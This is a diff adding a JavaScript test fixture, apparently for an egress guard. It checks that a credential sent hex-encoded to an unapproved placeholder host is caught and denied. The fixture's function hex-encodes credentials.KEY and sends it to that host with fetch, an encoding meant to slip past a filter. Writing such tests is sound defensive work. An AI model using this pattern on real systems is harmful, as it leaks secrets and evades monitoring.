@@ -1,0 +1,15 @@
+export const attempt = {
+  tries: "to send a value that it was given itself to another host in hexadecimal",
+  refusedBecause: "hexadecimal is a spelling that is searched for",
+  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
+  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
+  allowedHosts: ["http://{witness}", "http://{other}"],
+  keyHosts: ["http://{witness}"],
+  keyIsExposed: true,
+};
+
+export default async ({ other }, { credentials }) => {
+  const hex = [...credentials.KEY].map((c) => c.charCodeAt(0).toString(16).padStart(2, "0"));
+  await fetch(`http://${other}/reached?${hex.join("")}`);
+  return "got through";
+};
